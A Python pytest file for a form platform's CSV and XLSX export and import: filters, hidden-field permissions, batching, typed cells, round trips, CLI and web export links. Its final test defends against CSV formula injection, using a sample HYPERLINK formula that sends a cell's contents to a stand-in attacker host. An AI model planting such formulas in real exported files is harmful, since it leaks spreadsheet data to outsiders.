"""Exports of a list view: its filters, only the fields the person may read, CSV with a BOM and XLSX
with typed cells, streamed a batch at a time; and a round trip export -> import gives the same data."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from engines.form.access import Access
from engines.form.query import ListRequest
from engines.form.transfer import export as ex
from runtime.auth import create_user, grant
from runtime.cli import main
from runtime.webapp import create_app
from tests.conftest import sign_in
from tests.import_fixture import CLUB, do_import, members, write_csv

PASSWORD = "correct horse battery"
FIELDS = ("name", "phone", "tier", "birthday", "store", "visits", "points", "greeted", "secret")


def _fill(inst, tmp_path, n=5):
    inst.records.create("stores", {"name": "总店"}, source="test")
    rows = [["姓名", "手机号", "等级", "生日", "门店", "到店次数", "积分", "积分有效期", "备注"]]
    rows += [[f"会员{i}", f"138{i:08d}", "vip" if i % 2 else "normal", f"1990-01-{i + 1:02d}", "1", str(i),
              str(10 * i), "2031-01-01", f"秘密{i}"] for i in range(n)]
    _job, out = do_import(inst, write_csv(tmp_path / "seed.csv", rows))
    assert out.failed == 0


def _csv_rows(text):
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_csv_export_with_filters_and_hidden_fields(make_platform, tmp_path):
    inst = make_platform(CLUB).apps["club"]
    _fill(inst, tmp_path)
    t = inst.form.tables["members"]
    req = ListRequest.parse(inst.form, t, {"tier": "vip", "sort": "name"})
    rows = _csv_rows("".join(ex.csv_stream(inst.form, t, req, "zh")))
    assert rows[0][:4] == ["编号", "姓名", "手机号", "等级"] and "备注" in rows[0]
    assert [r[1] for r in rows[1:]] == ["会员1", "会员3"]
    clerk = Access(inst.form, roles={"clerk"}, user_id=9)
    rows = _csv_rows("".join(ex.csv_stream(inst.form, t, req, "en", clerk)))
    assert "Secret" not in rows[0] and not any("秘密" in c for r in rows for c in r)


def test_export_reads_in_batches(make_platform, tmp_path, monkeypatch):
    inst = make_platform(CLUB).apps["club"]
    _fill(inst, tmp_path, n=7)
    monkeypatch.setattr(ex, "BATCH", 3)
    t = inst.form.tables["members"]
    blocks = list(ex.csv_stream(inst.form, t, ListRequest(), "zh", None))
    assert len(blocks) == 1 + 3                       # headers, then one block per batch of 3
    assert len(_csv_rows("".join(blocks))) == 8


def test_xlsx_export_has_typed_cells(make_platform, tmp_path):
    inst = make_platform(CLUB).apps["club"]
    _fill(inst, tmp_path, n=2)
    t = inst.form.tables["members"]
    path = tmp_path / "out.xlsx"
    assert ex.write_xlsx(inst.form, t, ListRequest(sort="id"), "en", str(path)) == 2
    ws = load_workbook(path).worksheets[0]
    head = [c.value for c in ws[1]]
    first = dict(zip(head, [c.value for c in ws[2]]))
    assert first["Name"] == "会员0" and first["Visits"] == 0 and first["Points"] == 0
    assert first["Birthday"] == dt.datetime(1990, 1, 1) and first["Phone"] == "+8613800000000"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_round_trip_export_then_import_gives_the_same_data(make_platform, tmp_path, fmt):
    platform = make_platform(CLUB, CLUB.replace("app: club", "app: copy"))
    src, dst = platform.apps["club"], platform.apps["copy"]
    _fill(src, tmp_path)
    dst.records.create("stores", {"name": "总店"}, source="test")
    path = tmp_path / f"members.{fmt}"
    t = src.form.tables["members"]
    (ex.write_csv if fmt == "csv" else ex.write_xlsx)(src.form, t, ListRequest(sort="id"), "zh", str(path))
    _job, out = do_import(dst, str(path), rules=False)
    assert (out.inserted, out.failed) == (5, 0)
    assert [{k: m[k] for k in FIELDS} for m in members(dst)] == [{k: m[k] for k in FIELDS} for m in members(src)]


def test_cli_export_with_a_filter(make_platform, db_url, tmp_path):
    definition = tmp_path / "club.yaml"
    definition.write_text(CLUB, encoding="utf-8")
    inst = make_platform(str(definition)).apps["club"]
    _fill(inst, tmp_path)
    out = tmp_path / "vip.xlsx"
    result = CliRunner().invoke(main, ["export", "club", "members", "--filter", "tier=vip", "--filter",
                                       "visits__gte=2", "-o", str(out), "--db", db_url, "-d", str(definition)])
    assert result.exit_code == 0, result.output
    assert "exported 1 record(s)" in result.output
    ws = load_workbook(out).worksheets[0]
    assert ws.max_row == 2 and ws.cell(2, 2).value == "会员3"
    bad = CliRunner().invoke(main, ["export", "club", "members", "--filter", "nope=1", "-o", str(out),
                                    "--db", db_url, "-d", str(definition)])
    assert bad.exit_code == 1 and "error: invalid query parameters" in bad.output and "Traceback" not in bad.output


def test_cli_import_dry_run_and_map(make_platform, db_url, tmp_path):
    definition = tmp_path / "club.yaml"
    definition.write_text(CLUB, encoding="utf-8")
    inst = make_platform(str(definition)).apps["club"]
    path = write_csv(tmp_path / "m.csv", [["外号", "手机号"], ["甲", "13800000001"], ["乙", "bad"]], "gbk")
    args = ["import", "club", "members", path, "--db", db_url, "-d", str(definition), "--map", "外号=name"]
    result = CliRunner().invoke(main, args + ["--dry-run"])
    assert result.exit_code == 1 and "row 3, column '手机号', value 'bad': is not a valid phone" in result.output
    assert "nothing written" in result.output and members(inst) == []
    failed = tmp_path / "failed.csv"
    result = CliRunner().invoke(main, args + ["--no-rules", "--failed", str(failed)])
    assert "1 inserted, 0 updated, 1 failed" in result.output
    assert [m["greeted"] for m in members(inst)] == [False]
    assert _csv_rows(failed.read_text(encoding="utf-8"))[1][:2] == ["乙", "bad"]
    result = CliRunner().invoke(main, ["import", "club", "members", path, "--db", db_url, "-d", str(definition),
                                       "--map", "外号=nope"])
    assert result.exit_code == 1 and "no field 'nope'" in result.output


def test_export_links_carry_the_filters_and_respect_read(make_platform, tmp_path):
    platform = make_platform(CLUB)
    inst = platform.apps["club"]
    _fill(inst, tmp_path)
    create_user(platform, "cathy", PASSWORD)
    grant(platform, "cathy", "club", "clerk")
    app = create_app(platform)
    app.config["TESTING"] = True
    client = app.test_client()
    sign_in(client, "cathy", PASSWORD)
    resp = client.get("/club/members/export.csv?tier=normal&lang=en")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    rows = _csv_rows(resp.get_data(as_text=True))
    assert "Secret" not in rows[0] and {r[3] for r in rows[1:]} == {"normal"} and len(rows) == 4
    assert client.get("/club/members/export.csv?secret=x").status_code == 400      # hidden: not a filter
    resp = client.get("/club/members/export.xlsx?tier=vip")
    assert resp.status_code == 200 and load_workbook(io.BytesIO(resp.data)).worksheets[0].max_row == 3
    assert client.get("/club/stores/export.csv").status_code == 200


def test_text_that_looks_like_a_formula_is_exported_as_text_and_imported_back(make_platform, tmp_path):
    platform = make_platform(CLUB, CLUB.replace("app: club", "app: copy"))
    src, dst = platform.apps["club"], platform.apps["copy"]
    _fill(src, tmp_path, n=1)
    first = members(src)[0]
    attack = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    src.records.update("members", first["id"], {"name": "=1+1", "secret": attack}, source="test")
    t = src.form.tables["members"]
    rows = _csv_rows("".join(ex.csv_stream(src.form, t, ListRequest(sort="id"), "zh")))
    assert rows[1][1] == "'=1+1" and "'" + attack in rows[1]
    assert "+8613800000000" in rows[1]                       # a phone is a number, left as it is
    path = tmp_path / "out.xlsx"
    ex.write_xlsx(src.form, t, ListRequest(sort="id"), "zh", str(path))
    cell = load_workbook(path).worksheets[0]["B2"]
    assert cell.value == "=1+1" and cell.data_type == "s"    # text, not a formula Excel would run
    csv_path = tmp_path / "out.csv"
    ex.write_csv(src.form, t, ListRequest(sort="id"), "zh", str(csv_path))
    dst.records.create("stores", {"name": "总店"}, source="test")
    _job, out = do_import(dst, str(csv_path), rules=False)
    assert out.failed == 0 and members(dst)[0]["name"] == "=1+1" and members(dst)[0]["secret"] == attack
